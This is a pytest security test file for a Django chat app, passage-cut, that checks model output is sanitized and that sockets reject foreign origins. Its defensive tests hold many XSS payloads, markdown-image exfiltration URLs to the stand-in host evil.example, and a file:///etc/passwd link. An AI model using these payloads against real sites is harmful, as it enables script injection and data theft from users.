"""The security matrix: every class of attack tried on qwenweb, what must hold, and the tests
that fail if it opens again (in this file unless a path is given). README.md lists the same.

Model output is untrusted HTML
  sanitized after markdown rendering (markdown-it, then nh3)
      test_sanitizer_runs_after_markdown_rendering
      test_markdown_layer_alone_emits_no_raw_html
      tests/test_rendering.py::test_nothing_executable_survives
  `hx-*`, `on*`, `style`, `javascript:`/`data:`/`vbscript:` URLs (also mixed-case and
  entity-encoded) stripped
      test_dangerous_markup_and_urls_are_stripped (each payload through the real pipeline,
        and through one whose markdown stage lets raw HTML and any link through)
  XSS split across stream chunks stays inert
      test_xss_split_across_stream_chunks_stays_inert (real websocket, simulator chunks)
      test_lean_frames_are_appended_as_text_by_chat_js
      tests/test_browser.py::test_model_output_is_sanitized_while_streaming_and_after
  markdown image exfiltration blocked
      test_markdown_image_is_never_an_img (and the image in the streamed reply above)
      tests/test_rendering.py::test_markdown_image_becomes_a_link_not_an_image
      tests/test_deploy_security.py (CSP img-src)

Who may open a socket, and what it may reach
  a foreign or missing Origin is rejected
      test_socket_with_a_foreign_or_missing_origin_is_rejected
      tests/test_consumer.py::test_socket_from_a_foreign_origin_is_rejected
  an anonymous socket is closed; every page and socket but the public ones needs a login
      test_anonymous_socket_is_closed
      test_every_page_needs_a_login (URL conf enumerated, GET and POST)
      test_every_socket_needs_a_login
  IDOR on every conversation route (page, earlier messages, socket, stop, rename, delete,
  exports, settings, versions, image thumbnails; regenerate and edit over the socket) and in
  the lists
      test_every_conversation_route_is_covered (URL conf enumerated: a new route fails it)
      test_foreign_conversation_is_404_and_unchanged
      test_another_users_message_through_ones_own_chat_is_404
      test_socket_to_a_foreign_conversation_is_closed
      test_stop_and_hello_on_own_socket_never_reach_another_users_reply
      test_lists_show_only_own_conversations
      test_new_chat_with_another_users_client_message_id_opens_no_foreign_chat
      tests/test_views.py::test_foreign_conversation_is_404_on_every_route
      tests/test_consumer.py::test_foreign_socket_is_closed
      tests/test_versions.py::test_other_users_cannot_regenerate_edit_or_switch
      tests/test_browser.py::test_other_user_gets_404_and_no_sidebar_entry
  frames of one user's conversation never reach another user's socket
      test_frames_never_cross_users
  a forged model name or parameter over the socket is refused
      tests/test_consumer.py::test_a_forged_model_or_parameters_in_a_frame_change_nothing_upstream

Sessions
  a logout closes that session's sockets, in every process
      tests/test_consumer.py::test_logout_closes_the_sockets_of_that_session_and_no_other
      tests/test_team_deployment.py::test_logout_through_one_process_closes_that_sessions_socket_on_the_other
  a password change, a deactivation or a deleted session made where no signal reaches
  (`manage.py shell`, another host) refuses the next frame of an open socket (4403)
      test_a_session_ended_from_the_command_line_refuses_the_next_send (a real daphne, the
        change made by a `manage.py shell` subprocess)
  cookie flags, session fixation, login throttling, `check --deploy`
      tests/test_deploy_security.py

A socket's abuse costs a bounded amount
  a bad frame (binary, not JSON, not an object, over 256 KiB) closes that socket with a code
  of the app's own (4003, 4009) and a sentence; nothing of it stays behind
      test_bad_frames_close_with_a_reason_and_leave_nothing_behind (1,000 bad-frame sockets
        against 1,000 clean closes on a real daphne: registry, tasks, memory, log)
      tests/test_consumer.py::test_a_bad_frame_closes_only_its_socket_and_the_others_keep_streaming
  `hello` cannot amplify: ids de-duplicated and capped, answered at most once a second
      test_hellos_are_deduplicated_capped_and_answered_at_most_once_a_window
  a client that does not read is dropped once what waits for it passes
  QWENWEB_SOCKET_BACKLOG_BYTES, and the server stops reading from it meanwhile
      test_a_client_that_stops_reading_is_dropped_and_costs_bounded_memory
  a tab that closes while a reply streams to it is no error in the server log
      test_a_tab_closed_mid_reply_leaves_no_error_in_the_log (real daphne)

Pages and limits
  a signed-in user's pages, exports and htmx fragments are never stored by the browser
      test_every_page_of_a_signed_in_user_is_never_stored (URL conf enumerated, plain and htmx)
      test_pages_served_over_asgi_are_never_stored_either
      test_static_files_and_public_pages_keep_their_caching
  new chats a minute are limited per user (QWENWEB_CHATS_PER_MINUTE)
      tests/test_limits.py::test_the_31st_chat_in_a_minute_is_refused_and_says_when_to_try_again
      tests/test_limits.py::test_zero_chats_per_minute_means_no_limit
      tests/test_limits.py::test_another_users_chats_leave_ones_own_limit_alone

Uploads
  an uploaded image is kept only if its content is a PNG, JPEG, WebP or GIF (an HTML file
  named .png, an SVG, a truncated or oversize file is refused), stored under a name of the
  app's own, and served to its owner and reviewers only, with its checked type, nosniff and
  a CSP that allows nothing
      tests/test_uploads.py::test_anything_but_an_image_is_refused_whatever_its_name_says
      tests/test_uploads.py::test_each_image_kind_is_kept_and_served_to_its_owner
      tests/test_uploads.py::test_only_the_owner_and_reviewers_see_an_upload
      test_foreign_conversation_is_404_and_unchanged (the upload and image routes)
      test_another_users_message_through_ones_own_chat_is_404 (alice's upload through bob's chat)
  an upload named by a send must be the chat's own
      tests/test_uploads.py::test_images_to_a_model_without_vision_or_from_another_chat_are_refused

CSRF
      test_no_view_is_csrf_exempt (URL conf enumerated)
      test_every_post_without_a_token_is_refused (URL conf enumerated, admin included)
      test_state_changing_posts_without_a_token_change_nothing
      test_admin_actions_without_a_token_change_nothing

Secrets
  the API key never appears in HTML, frames, logs, error messages or exports
      test_api_key_never_leaks
      test_api_key_with_a_trailing_newline_never_leaks (a key read from a secret file)
  a key echoed by the upstream (request id, x-request-id, error code and message, reply
  text) is redacted by the client before anything stores, logs, sends or exports it
      test_a_key_echoed_by_the_upstream_is_never_stored_or_shown
      tests/test_dashscope_client.py::test_key_echoed_into_request_ids_errors_and_reply_never_comes_out
  the offline demo's simulator takes orders only from the app: a control token and an API
  key random per run, and only the newest 200 requests kept
      test_the_offline_demo_simulator_takes_no_orders_from_other_local_processes
      tests/test_simulator.py::test_control_needs_the_token_when_one_is_set
      tests/test_simulator.py::test_the_record_keeps_only_the_newest_requests

Input
  image URLs: absolute http(s) only; rendering a page, an export or the admin fetches none
      test_image_urls_must_be_http_or_https
      test_refused_image_urls_save_nothing_over_socket_and_form
      test_server_never_fetches_image_urls
      tests/test_consumer.py::test_bad_image_urls_are_refused_before_anything_is_saved
  the image proxy (SSRF): only public addresses (loopback, 10/8, 169.254.169.254, IPv6
  loopback, mapped and embedded addresses, a name resolving to any of them refused; loopback
  only when QWENWEB_IMAGE_PROXY_ALLOWED_HOSTS lists it), connecting to the address checked,
  every redirect re-checked, images only (type and bytes), at most 10 MB, short timeouts;
  thumbnails only for the owner and reviewers
      tests/test_images.py (the whole matrix, against a real server on 127.0.0.1)
      test_foreign_conversation_is_404_and_unchanged (message_image)
  NUL and the other invisible C0 controls never reach the database (PostgreSQL refuses NUL):
  dropped from messages, titles and model output, refused in image URLs
      tests/test_control_characters.py (on SQLite, and again on PostgreSQL:
        test_the_same_on_postgresql)

Admin review
  requires the permission, and is audited
      test_staff_without_review_permission_gets_nothing
      test_reviewer_reads_but_cannot_change
      test_reviews_are_audited
      test_own_conversations_are_not_audited
      tests/test_admin.py::test_reviewer_reads_conversations_but_cannot_change_them
      tests/test_admin.py::test_staff_without_review_permission_sees_no_conversations

Decisions recorded here:

- Image URLs: `http`/`https` only, absolute. Refused: `javascript:`, `data:`, `file:`,
  `ftp:`, relative (`/x.png`) and protocol-relative (`//host/x.png`) URLs. Accepted: URLs
  with credentials (`https://user:pw@host/x.png`) and loopback or private hosts: they are
  passed to DashScope, which fetches them from its own network, and the credentials are the
  sender's own, shown only to them (and to reviewers). Their thumbnails come through the
  image proxy (conversations/images.py), which is the only code that fetches one: it never
  sends credentials (such a URL gets the placeholder) and never reaches a non-public address
  unless the host is in QWENWEB_IMAGE_PROXY_ALLOWED_HOSTS. A refused or failed image is a
  placeholder SVG answered 200 (so the `<img>` shows it) with `X-Qwenweb-Image: refused` and
  `X-Qwenweb-Image-Reason` (not-allowed, not-an-image, too-large, unavailable); who may not
  see the message gets the same 404 as for a missing one.
- Thumbnails are the one exception to `no-store` below: `private, max-age=86400` (60 for a
  placeholder) with `Vary: Cookie`, so no shared cache keeps them and a copy is not reused
  once the session cookie has changed (qwenweb/cache_control.keep_in_readers_cache).
- Caching: `Cache-Control: no-store, private` on every response to a signed-in user
  (qwenweb/cache_control.py). Static files keep WhiteNoise's public caching (the middleware
  sits after it); the health check and the sign-in page already carry Django's never_cache
  (no-store included) for everyone, and are left as they are; other responses to anonymous
  users (redirects to the sign-in page) are left alone.
- Audit: a `LogEntry` against the conversation with a flag of its own (`REVIEWED` in
  conversations/admin.py, not ADDITION/CHANGE/DELETION: a review changes nothing) and a
  plain-text change message ("Viewed for review", "Viewed message <pk> for review",
  "Exported as JSON for review"), shown on the conversation's History page in the admin, and
  the same line on the `qwenweb.audit` logger.
"""

from __future__ import annotations

import asyncio
import contextlib
import html as html_module
import io
import json
import logging
import os
import re
import socket
import subprocess
import threading
import time
import urllib.request
import uuid
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from asgiref.sync import sync_to_async
from channels.testing import WebsocketCommunicator
from django.conf import settings as django_settings
from django.contrib.admin.models import LogEntry
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.contrib.contenttypes.models import ContentType
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import AsyncClient, Client
from django.urls import URLPattern, URLResolver, get_resolver, resolve, reverse
from django.urls.resolvers import RoutePattern
from django.utils import timezone
from markdown_it import MarkdownIt
from PIL import Image

from conversations import rendering
from conversations.admin import REVIEWED
from conversations.models import Conversation, Message, MessageImage, ModelProfile
from conversations.rendering import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    CODE_CLASSES,
    render_markdown,
)
from conversations.replies import rules, service
from conversations.replies.service import conversation_create
from conversations.routing import websocket_urlpatterns
from conversations.upstream import reset_clients
from dashscope_simulator import Scenario, ScenarioError, tokenize
from tests.conftest import APP_API_KEY
from tests.live_server import PASSWORDS, _start_daphne, new_chat, signed_in_client
from tests.ws_support import (
    Transcript,
    assistant_reply,
    connect,
    make_conversation,
    make_user,
    receive_until,
    send_frame,
    wait_for_status,
)

ROOT = Path(__file__).resolve().parent.parent

# -- reading HTML as a browser would ---------------------------------------------------------------

# Elements that load, run or restyle something, never acceptable from model output anywhere.
# Math is MathML from the sanitizer's own allowlist (rendering.MATH_TAGS): presentation
# elements only, with layout attributes only; the MathML that runs, links or switches content
# (maction, semantics, annotation-xml; href, xlink:href) is here.
LIVE_TAGS = {
    "script", "img", "iframe", "frame", "svg", "object", "embed", "style", "link", "meta",
    "base", "video", "audio", "source", "picture", "template", "maction", "semantics",
    "annotation-xml", "annotation", "mglyph", "malignmark",
}  # fmt: skip
SAFE_SCHEMES = {"", "http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcset", "poster"}


def url_scheme(value: str) -> str:
    """The scheme a browser sees in an attribute value (entities already decoded): it drops
    tabs and newlines anywhere and control characters and spaces at the ends."""
    cleaned = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21))))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", cleaned)
    return match[1].lower() if match else ""


class Elements(HTMLParser):
    """Every element of some HTML (attribute values decoded), noting which are inside a
    message body (`#message-<pk>-body`, where model output goes), and the bodies' text."""

    def __init__(self, source: str):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str]], int | None]] = []
        self.body_text: dict[int, str] = {}
        self._body: int | None = None
        self._depth = 0  # divs open inside the body: only the app's own two
        self.feed(source)
        self.close()

    def handle_starttag(self, tag, attrs):
        attrs = [(name, value or "") for name, value in attrs]
        if tag == "div" and self._body is not None:
            # A streaming body's parts, the app's own: its settled blocks, then its tail.
            # Any other div inside a body is model output, and fails the allowlist.
            tail = {"id": f"message-{self._body}-tail", "class": "message__tail"}
            if attrs in (
                [("class", "message__settled")],
                list(tail.items()),
                [*tail.items()][:1] + [("class", "message__tail is-code")],
            ):
                self.found.append((tag, attrs, None))
                self._depth += 1
                return
        self.found.append((tag, attrs, self._body))
        if tag == "div":
            match = re.fullmatch(r"message-(\d+)-body", dict(attrs).get("id", ""))
            if match:
                self._body = int(match[1])
                self.body_text.setdefault(self._body, "")

    def handle_endtag(self, tag):
        if tag == "div":
            if self._depth:
                self._depth -= 1
            else:
                self._body = None  # no other div is allowed inside a body

    def handle_data(self, data):
        if self._body is not None:
            self.body_text[self._body] += data


def assert_inert(source: str, *, model_output_only: bool = False) -> Elements:
    """No element or attribute that runs, loads or restyles anything; inside message bodies
    (or everywhere, for `model_output_only`) nothing but the sanitizer's allowlist."""
    parsed = Elements(source)
    for tag, attrs, body in parsed.found:
        strict = model_output_only or body is not None
        assert tag not in LIVE_TAGS, (tag, attrs, source)
        if strict:
            assert tag in ALLOWED_TAGS, (tag, attrs, source)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, source)
            assert name != "style", (tag, name, source)
            if strict:
                if (tag, name) == ("span", "class"):  # highlighted code: Pygments' classes
                    assert set(value.split()) <= CODE_CLASSES["span"], (tag, value, source)
                    continue
                assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name, source)
                assert not name.startswith(("hx-", "data-hx", "ws-")), (tag, name, source)
            if name in URL_ATTRIBUTES:
                assert url_scheme(value) in SAFE_SCHEMES, (tag, name, value, source)
    return parsed


# -- sanitized after rendering; dangerous markup and URLs stripped ---------------------------------


def _permissive_markdown() -> MarkdownIt:
    """markdown-it as it would be after a careless change: raw HTML on, every link allowed."""
    md = MarkdownIt("commonmark", {"html": True, "linkify": False, "breaks": True})
    md.enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    return md


@pytest.fixture(params=["real", "permissive-markdown"])
def pipeline(request, monkeypatch):
    """render_markdown as it is, and with its markdown stage made permissive, so that only
    the sanitizer after it stands between the payload and the page."""
    render_markdown.cache_clear()
    if request.param == "permissive-markdown":
        monkeypatch.setattr(rendering, "_markdown", _permissive_markdown)
    yield request.param
    render_markdown.cache_clear()


def test_sanitizer_runs_after_markdown_rendering(monkeypatch):
    """Whatever markdown-it produces goes through nh3: with raw HTML switched on and every
    link allowed in markdown-it, the output is still clean (so nh3 runs on markdown-it's
    output, not before it, and not on the input only)."""
    monkeypatch.setattr(rendering, "_markdown", _permissive_markdown)
    render_markdown.cache_clear()
    try:
        source = (
            '<script>alert(1)</script><img src=x onerror=alert(2)><p style="x" onclick="y">p</p>'
            "\n\n[a](javascript:alert(3)) [b](data:text/html,<script>alert(4)</script>)"
        )
        raw = _permissive_markdown().render(source)
        assert "<script>" in raw and 'href="javascript:' in raw, "the stand-in must be unsafe"
        out = render_markdown(source)
        assert_inert(out, model_output_only=True)
        assert "<script" not in out and "javascript:" not in out and "onerror" not in out
    finally:
        render_markdown.cache_clear()


def test_markdown_layer_alone_emits_no_raw_html():
    """The first layer on its own: markdown-it with raw HTML off escapes tags, and renders an
    image as a link (the sanitizer is the second layer, not the only one)."""
    out = rendering._markdown().render(
        "<script>alert(1)</script> <img src=x onerror=alert(2)> ![x](https://evil.example/i.png)"
    )
    assert "<script" not in out and "<img" not in out
    assert "&lt;script&gt;" in out


PAYLOADS = [
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="#" onclick="alert(1)">x</a>',
    '<a href="#" OnMouseOver="alert(1)">x</a>',
    '<div hx-get="/c/new/" hx-trigger="load">x</div>',
    '<a hx-post="/c/new/" hx-trigger="load" data-hx-post="/c/new/">x</a>',
    '<form hx-post="/c/new/"><button hx-delete="/x" hx-trigger="load">x</button></form>',
    '<p style="background:url(https://evil.example/leak)">x</p>',
    "<style>body{background:url(https://evil.example/leak)}</style>",
    "<iframe src='https://evil.example/'></iframe>",
    "<object data=javascript:alert(1)></object>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example/" style="position:fixed;inset:0">overlay</a>',
    '<a href="https://ok.example/" target="_self" ping="https://evil.example/">x</a>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<!--<img src=x onerror=alert(1)>-->",
    # markdown links, autolinks, references, images
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](VbScRiPt:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,alert(1))",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example/ "title\\" onclick=\\"alert(1)")',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: &#106;avascript:alert(1)",
    "<javascript:alert(1)>",
    "<JaVaScRiPt:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/leak?d=secret)",
    '![x"onerror="alert(1)](https://evil.example/x.png)',
    "| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    # math, rendered as MathML: text, links and styles in TeX must not become markup
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
    "\\(\\mathrm{<svg onload=alert(1)>}\\)",
    "$\\href{javascript:alert(1)}{click}$",
    "$$\n\\href{https://evil.example/leak}{x}\n$$",
    "$\\style{background:url(https://evil.example/leak)}{x}$",
    "\\[\\class{x}{y} \\cssId{z}{w} \\toggle{a}{b}\\endtoggle\\]",
    "$\\operatorname{<a href=javascript:alert(1)>x</a>}$",
]


@pytest.mark.parametrize("source", PAYLOADS)
def test_dangerous_markup_and_urls_are_stripped(pipeline, source):
    out = render_markdown(source)
    # What the browser parses is what the sanitizer saw: sanitizing the output again changes
    # nothing (a parser difference, MathML's namespaces included, would show here).
    assert rendering.sanitize(out) == out, (source, out)
    parsed = assert_inert(out, model_output_only=True)
    hrefs = [
        value for _tag, attrs, _body in parsed.found for name, value in attrs if name == "href"
    ]
    assert all(url_scheme(href) in SAFE_SCHEMES for href in hrefs), (source, out)


# -- XSS split across stream chunks stays inert ----------------------------------------------------

XSS_REPLY = (
    "Look: <img src=x onerror=alert(1)> then <script>alert(2)</script> and "
    '<a href="javascript:alert(3)" onclick="alert(4)">a</a> <div hx-get="/c/new/" '
    'hx-trigger="load">h</div> <svg/onload=alert(5)> [y](JaVaScRiPt:alert(6)) '
    "![z](https://evil.example/leak?d=secret) <img src=x\nonerror=alert(7)> and then "
    + " ".join(f"word{i}" for i in range(20))
    + " the end"
)
# The same, cut into blocks that settle while it streams (each sent rendered, in "=" frames).
XSS_BLOCKS = (
    "# <img src=x onerror=alert(8)>\n\n- <script>alert(9)</script>\n- [x](javascript:alert(10))"
    "\n\n| <svg onload=alert(11)> | b |\n|---|---|\n| ![p](https://evil.example/p) | 2 |\n\n"
    "```html\n<script>alert(12)</script>\n```\n" + XSS_REPLY + "\n\n> <iframe src=x>\n\nend"
)


async def _stream_with_a_late_tab(app_simulator, text: str, late_when):
    """`text` streamed a word per chunk to a tab; a second tab opens once the first's
    transcript satisfies `late_when`. Both are read to the end: (the reply, each transcript)."""
    token = uuid.uuid4().hex
    app_simulator.add_scenario(
        Scenario(match=token, reply=text, tokens_per_chunk=1, token_delay=0.02)
    )
    owner = await make_user("alice")
    conversation = await make_conversation(owner)
    ws, connected, _ = await connect(owner, conversation)
    assert connected
    await ws.send_to(text_data=send_frame(f"be naughty {token}"))
    transcript = Transcript()
    await receive_until(ws, transcript, late_when)
    # A second tab, mid-reply: its first view of the reply is an HTML render of partial text.
    late, connected, _ = await connect(owner, conversation)
    assert connected
    late_transcript = Transcript()
    await receive_until(late, late_transcript, lambda t: bool(t.frames))
    await receive_until(ws, transcript, lambda t: "complete" in t.status.values(), within=30)
    await receive_until(late, late_transcript, lambda t: "complete" in t.status.values())
    await ws.disconnect()
    await late.disconnect()
    reply = await assistant_reply(conversation)
    assert reply.content == text
    return reply, transcript, late_transcript


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_xss_split_across_stream_chunks_stays_inert(app_simulator):
    """Over the real ASGI app: the simulator streams the reply a word per chunk, so every tag
    arrives in pieces. The lean `+` frames carry exactly the raw text (which chat.js appends as
    a text node, see the next test); a tab that opens mid-reply gets the partial text inside
    an escaped HTML render; the final render is sanitized markdown."""
    assert len(tokenize(XSS_REPLY)) > 30
    reply, transcript, late_transcript = await _stream_with_a_late_tab(
        app_simulator, XSS_REPLY, lambda t: sum(f[0] == "+" for f in t.frames) >= 10
    )

    lean = [f for f in transcript.frames if f[:1] == "+"]
    assert transcript.text[reply.pk] == XSS_REPLY, "the + frames carry the raw text, whole"
    assert len(lean) >= 8, "the reply should have come in many frames"
    assert any(f.count("<") != f.count(">") for f in lean), "a tag should span frames"
    for frames in (transcript.frames, late_transcript.frames):
        for frame in frames:
            if frame[:1] not in ("+", "~"):
                assert_inert(frame)
    snapshot = late_transcript.frames[0]
    assert 'data-status="streaming"' in snapshot
    partial = Elements(snapshot).body_text[reply.pk]
    assert partial and XSS_REPLY.startswith(partial), "the partial text is shown as text"

    final = transcript.frames[-1]
    assert 'data-status="complete"' in final
    body = assert_inert(final).body_text[reply.pk]
    assert "<img src=x onerror=alert(1)>" in body, "raw HTML shows as text"
    assert "<script>alert(2)</script>" in body
    assert 'href="https://evil.example/leak?d=secret"' in final, "the image became a link"


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_blocks_formatted_while_streaming_are_sanitized_however_the_text_is_split(
    app_simulator,
):
    """A hostile reply of many blocks, streamed a word per chunk: every block sent formatted
    while it streams ("=" frames) is the sanitizer's output, they follow on from each other,
    and together they are the reply's text so far rendered whole; a tab that opens mid-reply
    gets the settled blocks formatted and the rest as text, all inert."""
    reply, transcript, late_transcript = await _stream_with_a_late_tab(
        app_simulator, XSS_BLOCKS, lambda t: len(sum(t.blocks.values(), [])) >= 3
    )

    blocks = transcript.blocks[reply.pk]
    assert len(blocks) == 5, blocks  # heading, list, table, code, paragraph: not the last two
    assert [start for start, _end, _html in blocks] == [0] + [end for _s, end, _h in blocks[:-1]]
    settled = blocks[-1][1]
    assert "".join(html for _s, _e, html in blocks) == render_markdown(XSS_BLOCKS[:settled])
    for _start, _end, html in blocks:
        assert_inert(html, model_output_only=True)
    assert "<h1>" in blocks[0][2] and "<table>" in "".join(h for _s, _e, h in blocks)
    for frames in (transcript.frames, late_transcript.frames):
        for frame in frames:
            if frame[:1] not in ("+", "~", "="):
                assert_inert(frame)
    snapshot = late_transcript.frames[0]
    assert 'data-status="streaming"' in snapshot
    late_settled = int(re.search(r'data-settled="(\d+)"', snapshot)[1])
    assert late_settled > 0, "the late tab's first view has formatted blocks"
    tail = re.search(r'class="message__tail[^"]*">(.*?)</div>', snapshot, re.S)[1]
    assert XSS_BLOCKS[late_settled:].startswith(html_module.unescape(tail))
    final = transcript.frames[-1]
    assert 'data-status="complete"' in final
    assert_inert(final)


def test_lean_frames_are_appended_as_text_by_chat_js():
    """chat.js takes `+`/`~` frames away from htmx (preventDefault: htmx would swap them as
    HTML) and appends their text as a text node, never through an HTML parser. The one place
    it inserts HTML is `settle`, for `=` frames: blocks the server rendered and sanitized (as
    every fragment htmx swaps is; the test above checks each block of a hostile reply)."""
    source = (ROOT / "static/qwenweb/chat.js").read_text()
    match = re.search(
        r'addEventListener\("htmx:wsBeforeMessage", function \(event\) \{(.*?)\n  \}\);',
        source,
        re.S,
    )
    assert match, "the lean-frame handler moved: update this test"
    handler = match[1]
    assert 'marker !== "+" && marker !== "~" && marker !== "="' in handler
    assert "event.preventDefault()" in handler
    assert "createTextNode(text)" in handler and "appendData(text)" in handler
    settle = re.search(r"\n  function settle\(pk, blocks\) \{(.*?)\n  \}\n", source, re.S)
    assert settle, "settle moved: update this test"
    assert settle[1].count("insertAdjacentHTML") == 1
    assert 'insertAdjacentHTML("beforeend", block[2])' in settle[1]
    source = source.replace(settle[0], "")
    for sink in (
        "innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "DOMParser",
        "createContextualFragment", "htmx.swap", "htmx.process", "eval(", "Function(",
        "setHTMLUnsafe", "parseHTMLUnsafe",
    ):  # fmt: skip
        assert sink not in handler, sink
    # Nowhere in the file is HTML built from a string, except clearing a container.
    assert set(re.findall(r"innerHTML\s*=\s*([^;]+);", source)) <= {'""', "''"}
    assert "insertAdjacentHTML" not in source and "outerHTML" not in source


# -- markdown image exfiltration -------------------------------------------------------------------

EXFIL = "https://evil.example/leak?d=secret"


@pytest.mark.parametrize(
    "source",
    [
        f"![x]({EXFIL})",
        f'![x]({EXFIL} "title")',
        f"![x][r]\n\n[r]: {EXFIL}",
        f"![x][]\n\n[x]: {EXFIL}",
        f"[![x]({EXFIL})](https://ok.example/)",
        f"| a |\n|---|\n| ![x]({EXFIL}) |",
        f'<img src="{EXFIL}">',
        f"<picture><source srcset={EXFIL}><img src={EXFIL}></picture>",
        f'<video poster="{EXFIL}"></video>',
        f'<p style="background:url({EXFIL})">x</p>',
        f"![x](<{EXFIL}>)",
    ],
)
def test_markdown_image_is_never_an_img(pipeline, source):
    """No element that the browser would fetch by itself: at most a link (which needs a
    click) or text. The CSP img-src half is in tests/test_deploy_security.py."""
    out = render_markdown(source)
    parsed = assert_inert(out, model_output_only=True)
    for tag, attrs, _body in parsed.found:
        for name, value in attrs:
            if EXFIL in value:
                assert (tag, name) == ("a", "href"), (tag, name, out)


# -- the socket's gate: Origin and login -----------------------------------------------------------


@pytest.mark.parametrize(
    "origin",
    [
        None,
        "http://evil.example",
        "https://evil.example",
        "http://localhost.evil.example",
        "http://evil.example/localhost",
        "http://localhost@evil.example",
        "null",
        "",
        "file://",
    ],
)
@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_socket_with_a_foreign_or_missing_origin_is_rejected(origin):
    """Even with the owner's valid session (a cross-site page's socket carries the cookie):
    only an Origin of an allowed host gets through."""
    owner = await make_user("alice")
    conversation = await make_conversation(owner)
    ws, connected, _code = await connect(owner, conversation, origin=origin)
    assert not connected, origin
    good, connected, _ = await connect(owner, conversation, origin="http://localhost")
    assert connected, "the owner's socket from the site itself must still connect"
    await good.disconnect()


async def _raw_socket(path: str, cookie: str | None):
    from qwenweb.asgi import application

    headers = [(b"host", b"localhost"), (b"origin", b"http://localhost")]
    if cookie is not None:
        headers.append((b"cookie", cookie.encode()))
    communicator = WebsocketCommunicator(application, path, headers=headers)
    connected, code = await communicator.connect(timeout=5)
    if connected:
        await communicator.disconnect()
    return connected, code


def _session_cookie(user) -> str:
    client = Client()
    client.force_login(user)
    return f"sessionid={client.cookies['sessionid'].value}"


def _logged_out_cookie(user) -> str:
    client = Client()
    client.force_login(user)
    cookie = f"sessionid={client.cookies['sessionid'].value}"
    client.logout()
    return cookie


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_anonymous_socket_is_closed():
    """No session, a forged one, a signed-out one, or an inactive user's: closed with 4403,
    before anything is sent."""
    owner = await make_user("alice")
    conversation = await make_conversation(owner)
    inactive = await make_user("ivan")
    inactive_cookie = await sync_to_async(_session_cookie)(inactive)
    await get_user_model().objects.filter(pk=inactive.pk).aupdate(is_active=False)
    logged_out = await sync_to_async(_logged_out_cookie)(owner)
    path = f"/ws/c/{conversation.id}/"
    for cookie in [None, "sessionid=forged0123456789abcdefghijklmnopq", logged_out,
                   inactive_cookie]:  # fmt: skip
        connected, code = await _raw_socket(path, cookie)
        assert (connected, code) == (False, 4403), cookie
    owner_cookie = await sync_to_async(_session_cookie)(owner)
    assert (await _raw_socket(path, owner_cookie))[0], "the owner's own session must connect"


# -- the URL conf, walked --------------------------------------------------------------------------

# Dummy values for path converters and regex groups, to build a URL for every pattern.
DUMMY_UUID = "00000000-0000-4000-8000-000000000000"
CONVERTER_DUMMIES = {"UUIDConverter": DUMMY_UUID, "SlugConverter": "x"}
REGEX_DUMMIES = {"app_label": "conversations", "url": "no-such-page/"}


def url_patterns():
    """(route with dummy values, URL name with its namespace, converters) of every pattern."""

    def walk(patterns, prefix: str, namespace: str, converters: dict):
        for entry in patterns:
            piece = build(entry.pattern)
            found = {**converters, **getattr(entry.pattern, "converters", {})}
            if isinstance(entry, URLResolver):
                inner = ":".join(part for part in (namespace, entry.namespace) if part)
                yield from walk(entry.url_patterns, prefix + piece, inner, found)
